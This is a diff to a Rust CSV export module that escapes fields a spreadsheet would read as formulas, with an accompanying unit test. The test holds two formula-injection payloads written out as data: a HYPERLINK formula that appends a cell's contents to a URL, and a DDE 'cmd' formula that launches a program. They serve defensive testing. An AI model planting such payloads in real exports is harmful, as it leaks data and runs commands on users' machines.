@@ -4,6 +4,9 @@
 //! The `figures` column of every row says `illustrative` when any figure
 //! in it was invented for a demonstration, else `reported`. Computed
 //! columns (disclosure, status, overdue) are as of the `today` given.
+//! A field that a spreadsheet would read as a formula (it starts with
+//! `=`, `+`, `-`, `@`, a tab or a CR: any party writes titles and
+//! descriptions) is written with a `'` in front, so that it opens as text.
 
 use oretrace_domain::money::{Date, Money};
 use oretrace_domain::record::Figures;
@@ -11,6 +14,9 @@ use oretrace_domain::values::format_decimal;
 use oretrace_ledger::agreements::state::{AgreementState, ReportState};
 
 fn field(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        return format!("\"'{}\"", text.replace('"', "\"\""));
+    }
     if text.contains([',', '"', '\r', '\n']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
@@ -232,6 +238,23 @@ pub fn reports_csv(reports: &[ReportState]) -> String {
 #[cfg(test)]
 mod tests {
     use super::field;
+
+    #[test]
+    fn a_field_a_spreadsheet_would_run_opens_as_text() {
+        assert_eq!(
+            super::field("=HYPERLINK(\"http://x/\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"x\"\")\""
+        );
+        assert_eq!(
+            super::field("=cmd|' /C calc'!A0"),
+            "\"'=cmd|' /C calc'!A0\""
+        );
+        for c in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(super::field(c).starts_with("\"'"), "{c:?}");
+        }
+        assert_eq!(super::field("MoU, 2025"), "\"MoU, 2025\"");
+        assert_eq!(super::field("500000000"), "500000000");
+    }
 
     #[test]
     fn quoting_follows_rfc_4180() {
